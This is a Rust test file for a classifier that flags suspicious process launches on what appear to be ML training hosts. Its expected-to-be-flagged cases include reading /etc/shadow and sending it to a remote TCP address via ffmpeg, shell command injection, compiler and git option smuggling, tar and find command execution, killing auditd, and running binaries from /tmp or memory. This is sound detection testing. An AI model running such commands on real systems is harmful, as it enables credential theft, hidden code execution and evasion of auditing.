//! Which command lines are what, and which only look so.

use super::*;

fn kind_of(exe: &str, argv: &[&str], parent_exe: &str) -> Kind {
    let argv: Vec<Bytes> = argv.iter().map(|text| text.as_bytes().to_vec()).collect();
    Programs::embedded().unwrap().kind(Started {
        exe: exe.as_bytes(),
        argv: &argv,
        argv_truncated: false,
        parent_exe: parent_exe.as_bytes(),
    })
}

#[test]
fn what_frameworks_start_is_ordinary() {
    let python = "/opt/venv/bin/python3.11";
    let cases: &[(&str, &[&str], &str)] = &[
        ("/usr/sbin/ldconfig", &["/sbin/ldconfig", "-p"], python),
        ("/usr/bin/dash", &["/bin/sh", "/sbin/ldconfig", "-p"], python),
        ("/usr/bin/dash", &["/bin/sh", "-c", "uname -p 2> /dev/null"], python),
        ("/usr/bin/uname", &["uname", "-p"], python),
        ("/usr/bin/file", &["file", "-b", "/usr/bin/python3.11"], python),
        ("/usr/bin/x86_64-linux-gnu-g++-12", &["g++", "/tmp/a.cpp", "-O3", "-shared", "-o", "/tmp/a.so"], python),
        ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus", &["cc1plus", "-quiet", "/tmp/a.cpp"], "/usr/bin/g++"),
        ("/usr/bin/x86_64-linux-gnu-as", &["as", "--64", "-o", "/tmp/a.o", "/tmp/a.s"], "/usr/bin/g++"),
        (
            "/usr/lib/gcc/x86_64-linux-gnu/12/collect2",
            &["collect2", "-plugin", "/usr/lib/gcc/x86_64-linux-gnu/12/liblto_plugin.so", "-o", "a.so"],
            "/usr/bin/g++",
        ),
        (python, &["python", "-c", "from multiprocessing.resource_tracker import main;main(12)"], python),
        (
            python,
            &[
                "python",
                "-B",
                "-X",
                "dev",
                "-Werror",
                "-c",
                "from multiprocessing.resource_tracker import main;main(5)",
            ],
            python,
        ),
        (
            python,
            &[
                "python",
                "-c",
                "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=77)",
                "--multiprocessing-fork",
            ],
            python,
        ),
        (
            python,
            &[
                "python",
                "/opt/venv/lib/python3.11/site-packages/torch/_inductor/compile_worker/__main__.py",
                "--kind=fork",
            ],
            python,
        ),
        ("/opt/venv/lib/python3.11/site-packages/triton/backends/nvidia/bin/ptxas", &["ptxas", "--version"], python),
        (
            python,
            &[
                "python",
                "-c",
                "from multiprocessing.forkserver import main; main(10, 11, ['__main__'], **{'sys_path': ['/a b', '/c']})",
            ],
            python,
        ),
        (
            python,
            &[
                "python",
                "-m",
                "joblib.externals.loky.backend.popen_loky_posix",
                "--process-name",
                "LokyProcess-1",
                "--pipe",
                "14",
            ],
            python,
        ),
        ("/usr/bin/lscpu", &["lscpu", "--parse=core"], python),
        ("/usr/bin/git", &["git", "rev-parse", "HEAD"], python),
        ("/usr/bin/nvidia-smi", &["nvidia-smi", "--query-gpu=index,name", "--format=csv"], python),
        ("/usr/bin/ffmpeg", &["ffmpeg", "-nostdin", "-i", "/srv/a.mp3", "-f", "s16le", "-"], python),
        // Scripts of the system's, by whatever interprets them.
        ("/usr/bin/dash", &["/bin/sh", "/usr/bin/which", "nvcc"], python),
        ("/usr/bin/dash", &["/bin/sh", "/usr/bin/lsb_release", "-a"], python),
        ("/usr/bin/python3.11", &["/usr/bin/python3", "-Es", "/usr/bin/lsb_release", "-a"], python),
        ("/usr/bin/cut", &["cut", "-c2-"], "/usr/bin/dash"),
        // What a shell does no more than start.
        ("/usr/bin/dash", &["/bin/sh", "-c", "git rev-parse --short HEAD"], python),
        ("/usr/bin/bash", &["bash", "-c", "nvidia-smi --query-gpu=index,name --format=csv 2>/dev/null"], python),
        ("/usr/bin/dash", &["sh", "-c", "/usr/bin/lscpu"], python),
        ("/usr/bin/git", &["git", "diff", "--cached", "--abbrev=40", "--full-index", "--raw"], python),
    ];
    for (exe, argv, parent) in cases {
        assert_eq!(kind_of(exe, argv, parent), Kind::Ordinary, "{exe} {argv:?}");
    }
}

#[test]
fn what_only_looks_ordinary_is_not() {
    let python = "/usr/bin/python3.11";
    let cases: &[(&str, &[&str], &str, Kind)] = &[
        ("/tmp/ldconfig", &["/sbin/ldconfig", "-p"], python, Kind::Unexpected),
        ("/usr/sbin/ldconfig", &["/sbin/ldconfig", "-f", "/tmp/x"], python, Kind::Unexpected),
        ("/usr/bin/dash", &["/bin/sh", "-c", "uname -p 2> /dev/null; id"], python, Kind::Shell),
        ("/usr/bin/dash", &["/bin/sh"], python, Kind::Shell),
        ("/usr/bin/dash", &["/bin/sh", "/tmp/lsb_release", "-a"], python, Kind::Shell),
        ("/usr/bin/dash", &["/bin/sh", "/usr/bin/../../tmp/which", "nvcc"], python, Kind::Shell),
        ("/usr/bin/dash", &["/bin/sh", "/usr/bin/which", "bash"], python, Kind::Shell),
        ("/tmp/python3", &["python3", "/usr/bin/lsb_release", "-a"], python, Kind::Interpreter),
        ("/usr/bin/python3.11", &["python3", "-i", "/usr/bin/lsb_release", "-a"], python, Kind::Interpreter),
        ("/usr/bin/dash", &["sh", "-c", "PATH=/tmp lscpu"], python, Kind::Shell),
        ("/usr/bin/dash", &["sh", "-c", "/tmp/lscpu"], python, Kind::Shell),
        ("/usr/bin/dash", &["sh", "-c", "lscpu\nid"], python, Kind::Shell),
        ("/usr/bin/dash", &["sh", "-c", "lscpu $X"], python, Kind::Shell),
        ("/usr/bin/dash", &["sh", "-c", "lscpu", "x"], python, Kind::Shell),
        ("/usr/bin/dash", &["sh", "-c", ""], python, Kind::Shell),
        ("/tmp/sh", &["sh", "-c", "lscpu"], python, Kind::Shell),
        ("/usr/bin/busybox", &["sh", "-c", "id"], python, Kind::Shell),
        ("/usr/bin/g++", &["g++", "-wrapper", "sh,-c,id", "/tmp/a.cpp"], python, Kind::Unexpected),
        ("/usr/bin/g++", &["g++", "-fplugin=/tmp/x.so", "/tmp/a.cpp"], python, Kind::Unexpected),
        ("/usr/bin/ld", &["ld", "-plugin", "/tmp/liblto_plugin.so"], python, Kind::Unexpected),
        ("/usr/bin/ld", &["ld", "-plugin", "/usr/lib/gcc/../../../tmp/liblto_plugin.so"], python, Kind::Unexpected),
        (
            "/tmp/python3",
            &["python3", "-c", "from multiprocessing.resource_tracker import main;main(12)"],
            python,
            Kind::Interpreter,
        ),
        (
            python,
            &["python3", "-c", "from multiprocessing.resource_tracker import main;main(12);1"],
            python,
            Kind::Interpreter,
        ),
        (
            python,
            &["python3", "-c", "from multiprocessing.resource_tracker import main;main()"],
            python,
            Kind::Interpreter,
        ),
        (
            python,
            &["python3", "-c", "from multiprocessing.forkserver import main; main(1, 2, [exec('1')], **{})"],
            python,
            Kind::Interpreter,
        ),
        (python, &["python3", "-c", "import os"], python, Kind::Interpreter),
        ("/usr/bin/git", &["git", "-c", "core.fsmonitor=/tmp/x", "status"], python, Kind::Unexpected),
        ("/usr/bin/nvidia-smi", &["nvidia-smi", "-q", "-f", "/etc/cron.d/x"], python, Kind::Unexpected),
        ("/usr/bin/ffmpeg", &["ffmpeg", "-i", "/etc/shadow", "tcp://203.0.113.7:1"], python, Kind::Unexpected),
        (python, &["python3", "-B", "-X", "dev", "-c", "import os"], python, Kind::Interpreter),
        (python, &["python3", "-B", "-X"], python, Kind::Interpreter),
        ("", &["python3", "-c", "from multiprocessing.resource_tracker import main;main(1)"], "", Kind::Interpreter),
        ("/usr/bin/id", &["id"], python, Kind::Unexpected),
        ("/memfd:x (deleted)", &["x"], python, Kind::Memory),
        ("/tmp/sh (deleted)", &["x"], python, Kind::Shell),
        ("/tmp/update", &["update", "sh", "-c", "id"], python, Kind::Shell),
        ("/tmp/update", &["-bash"], python, Kind::Shell),
        ("/tmp/update", &["update", "-c", "id"], python, Kind::Shell),
        ("/memfd:x", &["sh"], python, Kind::Shell),
        ("/tmp/update", &["update", "--check"], python, Kind::Unexpected),
        ("/usr/bin/which", &["which", "bash"], python, Kind::Unexpected),
        ("", &["/bin/bash"], python, Kind::Shell),
        ("", &[], "", Kind::Unexpected),
        ("/usr/bin/perl5.36-x86_64-linux-gnu", &["perl"], python, Kind::Interpreter),
    ];
    for (exe, argv, parent, kind) in cases {
        assert_eq!(kind_of(exe, argv, parent), *kind, "{exe} {argv:?}");
    }
}

#[test]
fn what_people_start_themselves_is_usual() {
    let python = "/opt/venv/bin/python3.11";
    let cases: &[(&str, &[&str], &str, Kind)] = &[
        (python, &["python", "-m", "pip", "install", "-q", "six"], python, Kind::Usual),
        (python, &["/opt/venv/bin/python", "/opt/venv/bin/pip", "install", "six"], python, Kind::Usual),
        ("/usr/bin/dash", &["sh", "-c", "/opt/venv/bin/python -m pip install six"], python, Kind::Usual),
        ("/usr/bin/bash", &["bash", "-c", "pip list 2>/dev/null"], python, Kind::Usual),
        ("/usr/bin/dash", &["sh", "-c", "df -h"], python, Kind::Usual),
        ("/usr/bin/dash", &["sh", "-c", "mkdir -p out/y"], python, Kind::Usual),
        ("/usr/bin/dash", &["/bin/sh", "-c", "/opt/venv/bin/python -mpip list --format=freeze"], python, Kind::Usual),
        ("/usr/bin/ls", &["ls", "-la"], python, Kind::Usual),
        ("/usr/bin/git", &["git", "-C", "/srv/repo", "status", "--short"], python, Kind::Usual),
        ("/usr/bin/git", &["git", "-C", "/srv/repo", "rev-parse", "HEAD"], python, Kind::Ordinary),
        ("/usr/bin/rm", &["rm", "-rf", "out/step-100"], python, Kind::Usual),
        ("/usr/bin/tar", &["tar", "-czf", "model.tar.gz", "-C", "out", "."], python, Kind::Usual),
        ("/usr/bin/date", &["date", "+%F"], python, Kind::Usual),
        ("/usr/bin/dash", &["sh", "-c", "nvidia-smi | grep MiB"], python, Kind::Usual),
        ("/usr/bin/dash", &["sh", "-c", "nvidia-smi 2>/dev/null || true"], python, Kind::Usual),
        ("/usr/bin/dash", &["sh", "-c", "cd /srv/repo && git rev-parse HEAD"], python, Kind::Usual),
        ("/usr/bin/dash", &["sh", "-c", "uname -a; hostname"], python, Kind::Ordinary),
        ("/usr/bin/dash", &["sh", "-c", "nvidia-smi | sh"], python, Kind::Shell),
        ("/usr/bin/dash", &["sh", "-c", "true; id"], python, Kind::Shell),
        ("/usr/bin/true", &["true"], python, Kind::Unexpected),
        ("/usr/bin/dash", &["sh"], python, Kind::Shell),
        ("/usr/bin/tar", &["tar", "xf", "a.tar", "--to-command=id"], python, Kind::Unexpected),
        ("/usr/bin/tar", &["tar", "-cIid", "-f", "a", "b"], python, Kind::Unexpected),
        ("/usr/bin/tar", &["tar", "cIf", "id", "a", "b"], python, Kind::Unexpected),
        ("/usr/bin/sort", &["sort", "--compress-program=id", "a"], python, Kind::Unexpected),
        ("/usr/bin/date", &["date", "-s", "2000-01-01"], python, Kind::Unexpected),
        ("/usr/bin/git", &["git", "-c", "core.pager=id", "log"], python, Kind::Unexpected),
        ("/usr/bin/ps", &["ps", "aux"], python, Kind::Usual),
        ("/usr/bin/ps", &["ps", "-o", "rss=,vsz=", "-p", "71"], python, Kind::Usual),
        ("/usr/bin/pgrep", &["pkill", "-9", "auditd"], python, Kind::Unexpected),
        ("/usr/bin/top", &["top", "-b", "-n1"], python, Kind::Usual),
        ("/usr/bin/top", &["top"], python, Kind::Unexpected),
        ("/usr/bin/find", &["find", ".", "-name", "*.pt"], python, Kind::Usual),
        ("/usr/bin/find", &["find", ".", "-exec", "id", ";"], python, Kind::Unexpected),
        ("/usr/bin/find", &["find", "/tmp", "-delete"], python, Kind::Unexpected),
        (
            "/usr/bin/dash",
            &["sh", "-c", "ldconfig -p | grep libcudnn | rev | cut -d\" \" -f1 | rev"],
            python,
            Kind::Ordinary,
        ),
        (
            "/opt/venv/lib/python3.11/site-packages/torch/bin/torch_shm_manager",
            &["/opt/venv/lib/python3.11/site-packages/torch/bin/torch_shm_manager"],
            python,
            Kind::Ordinary,
        ),
        ("/tmp/torch/bin/torch_shm_manager", &["torch_shm_manager"], python, Kind::Unexpected),
        ("/usr/bin/rustc", &["rustc", "--version"], python, Kind::Usual),
        ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", &["java", "-version"], python, Kind::Usual),
        (python, &["python", "-m", "pip", "install", "six"], "/usr/bin/python3.11", Kind::Interpreter),
        ("/tmp/python3", &["python3", "-m", "pip", "install", "six"], python, Kind::Interpreter),
        (python, &["python", "-m", "http.server"], python, Kind::Interpreter),
        ("/tmp/pip", &["pip", "install", "six"], python, Kind::Unexpected),
        ("/usr/bin/dash", &["sh", "-c", "pip install six; id"], python, Kind::Shell),
        ("/usr/bin/dash", &["sh", "-c", "df $(id)"], python, Kind::Shell),
        ("/usr/bin/dash", &["sh", "-c", "ls; curl x"], python, Kind::Shell),
        ("/tmp/ls", &["ls"], python, Kind::Unexpected),
    ];
    for (exe, argv, parent, kind) in cases {
        assert_eq!(kind_of(exe, argv, parent), *kind, "{exe} {argv:?}");
    }
}

#[test]
fn arguments_that_were_cut_are_never_exact() {
    let argv = vec![b"/sbin/ldconfig".to_vec(), b"-p".to_vec()];
    let started =
        Started { exe: b"/usr/sbin/ldconfig", argv: &argv, argv_truncated: true, parent_exe: b"/usr/bin/python3" };
    assert_eq!(Programs::embedded().unwrap().kind(started), Kind::Unexpected);
}

#[test]
fn readers_and_managers_are_known_by_name() {
    let programs = Programs::embedded().unwrap();
    for reader in [
        "cp",
        "/usr/bin/sha256sum",
        "tar",
        "rsync",
        "git",
        "curl",
        "/usr/sbin/nginx",
        "cat",
        "/usr/bin/x86_64-linux-gnu-strings",
        "base64",
        "less",
        "vim.basic",
    ] {
        assert!(programs.is_reader(reader.as_bytes()), "{reader}");
    }
    for manager in ["containerd", "containerd-shim-runc-v2", "kubelet", "k3s", "sshd", "systemd"] {
        assert!(programs.is_manager(manager.as_bytes()), "{manager}");
    }
    let script = |exe: &str, argv: &[&str]| {
        let argv: Vec<Bytes> = argv.iter().map(|text| text.as_bytes().to_vec()).collect();
        programs.is_reader_script(exe.as_bytes(), &argv)
    };
    assert!(script("/usr/bin/python3.11", &["/usr/bin/python3", "/usr/bin/aws", "s3", "cp"]));
    assert!(script("/usr/bin/perl", &["/usr/bin/perl", "-w", "/usr/bin/shasum", "x"]));
    let gcloud = "/usr/lib/google-cloud-sdk/lib/gcloud.py";
    assert!(script("/usr/bin/python3.11", &["/usr/bin/python3", "-S", gcloud, "storage", "cp", "m.pt", "gs://x"]));
    assert!(script("/usr/bin/python3.13", &["/usr/bin/python3", "-sP", "/usr/bin/borg"]));
    assert!(!script("/usr/bin/python3.11", &["python3", "aws"]));
    assert!(!script("/usr/bin/python3.11", &["python3", "-c", "/usr/bin/aws"]));
    assert!(!script("/usr/bin/python3.11", &["python3", "-i", "/usr/bin/aws"]));
    assert!(!script("/usr/bin/python3.11", &["python3", "/srv/train.py", "/usr/bin/aws"]));
    assert!(!script("/usr/bin/dash", &["sh", "/usr/bin/aws"]));
    for other in ["python3", "sh", "cpx", "xcp", "torchrun"] {
        assert!(!programs.is_reader(other.as_bytes()) && !programs.is_manager(other.as_bytes()), "{other}");
    }
}
